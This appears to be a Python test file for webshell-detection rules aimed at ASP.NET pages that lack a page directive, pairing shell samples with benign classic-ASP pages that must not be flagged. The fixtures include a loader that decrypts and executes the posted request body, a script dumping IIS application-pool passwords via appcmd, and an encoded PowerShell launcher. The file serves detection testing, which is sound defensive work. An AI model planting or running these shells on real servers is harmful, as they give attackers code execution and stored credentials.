"""Pages with no directive at all (issue 14, helper X46, session 19).

ASP.NET compiles a page that has no ``<%@ Page %>`` in the language of ``<compilation defaultLanguage>``
(VB when the site sets none), so a shell needs no directive. X43's page grammar run (session 18) found 13
rule hits lost when VB table shells dropped theirs, and 56 more for C# shells on sites that default to C#:
the rules took a page only by its directive or ``runat="server"``. Every rule that did now also takes a
code block (``$block``: ``<%`` then code - not ``<%@``, ``<%=``, ``<%#``, ``<%:``, ``<%$`` or ``<%--``); the
four that asked for a directive *and* code take a code block or a server script alone; the in-memory
loaders' "any server file" markers had no code block (``$server3``). The page grammar tests now hold every
rule table to the no-directive spelling (``test_unseen43_page_grammar.py``).

The shells below are harmless reproductions written for these tests (fixed ``example.invalid`` addresses,
keys and names of our own); the ordinary pages are classic-ASP-style and directive-less pages of the kinds a
benign set of real ones held (X46's ``/tmp/benign46``: report downloads through ADODB.Stream, a referrer
bounce, a CAPTCHA check), written here, that must raise no finding.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables

_LOADER = (
    "<% if (Request.Cookies.Count > 0) {\n"
    '    byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");\n'
    "    System.IO.Stream s = Request.InputStream;\n"
    "    byte[] c = new byte[s.Length];\n"
    "    s.Read(c, 0, c.Length);\n"
    "    System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged()\n"
    '        .CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Probe").Equals(this);\n'
    "} %>\n"
)
_POOL_PASSWORDS_SCRIPT = (
    '<script runat="server">\n'
    "Sub Page_Load()\n"
    '    Dim i As New System.Diagnostics.ProcessStartInfo("appcmd.exe", "list apppool /text:processModel.password")\n'
    "    i.UseShellExecute = False\n"
    "    i.RedirectStandardOutput = True\n"
    "    Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\n"
    "End Sub\n"
    "</script>\n"
)
_ENCODED_POWERSHELL = (
    "<%\n"
    'var p = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-NoP -enc " +\n'
    '    "' + "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAYQByAG0AbABlAHMAcwAnAA" * 3 + '");\n'
    "System.Diagnostics.Process.Start(p);\n"
    "%>\n"
)

_REPORT_DOWNLOAD = (
    '<!-- #include file="includes/config.asp" -->\n'
    "<%\n"
    "Dim stream\n"
    'Set stream = Server.CreateObject("ADODB.Stream")\n'
    'Response.AddHeader "content-disposition", "attachment; filename=monthly.xls"\n'
    'Response.ContentType = "application/x-msexcel"\n'
    "stream.Open\n"
    "stream.Type = 1\n"
    'stream.LoadFromFile Server.MapPath("reports/monthly.xls")\n'
    "Response.BinaryWrite stream.Read\n"
    "stream.Close\n"
    "%>\n"
)
_REFERRER_BOUNCE = (
    '<!--#include file="conn.asp"-->\n'
    "<%\n"
    'If Session("admin") = "" Then Response.Redirect "login.asp"\n'
    'conn.Execute "update book set seen=1"\n'
    'Response.Redirect Request.ServerVariables("HTTP_REFERER")\n'
    "%>\n"
)
_POOL_NAMES = _POOL_PASSWORDS_SCRIPT.replace("/text:processModel.password", "/text:name")
_CAPTCHA_CHECK = (
    "<%\n"
    "Dim http\n"
    'Set http = Server.CreateObject("Msxml2.ServerXMLHTTP")\n'
    'http.open "POST", "https://captcha.example.invalid/verify", False\n'
    'http.setRequestHeader "Content-Type", "application/x-www-form-urlencoded"\n'
    'http.send "secret=site-secret"\n'
    'If InStr(http.responseText, """success"": true") > 0 Then Response.Write "ok"\n'
    "%>\n"
)

ORDINARY: list[Page] = [
    ("classic-report-download-through-adodb-stream", ".asp", _REPORT_DOWNLOAD),
    ("classic-update-then-back-to-the-referrer", ".asp", _REFERRER_BOUNCE),
    ("directive-less-page-lists-pool-names", ".aspx", _POOL_NAMES),
    ("directive-less-captcha-check", ".aspx", _CAPTCHA_CHECK),
]
_ORDINARY = {case: (case, ext, page) for case, ext, page in ORDINARY}

CASES: list[RuleCase] = [
    (
        "EXT_WEBSHELL_Assembly_Load_Decrypted_Request",
        [("directive-less-loader-of-the-posted-body", ".aspx", _LOADER)],
        [_ORDINARY["classic-report-download-through-adodb-stream"]],
    ),
    (
        "EXT_WEBSHELL_IIS_Stored_Credential_Dump",
        [("script-block-only-pool-password-dump", ".aspx", _POOL_PASSWORDS_SCRIPT)],
        [_ORDINARY["directive-less-page-lists-pool-names"]],
    ),
    (
        "EXT_WEBSHELL_Encoded_PowerShell_Launcher",
        [("directive-less-encoded-powershell", ".aspx", _ENCODED_POWERSHELL)],
        [_ORDINARY["directive-less-captcha-check"], _ORDINARY["classic-update-then-back-to-the-referrer"]],
    ),
]

(
    test_directive_less_shell_is_found,
    test_directive_less_ordinary_page_is_not_flagged,
    test_directive_less_rules_need_a_server_page,
) = rule_tables(CASES)

test_directive_less_ordinary_pages_raise_no_finding = quiet_pages_test(ORDINARY)
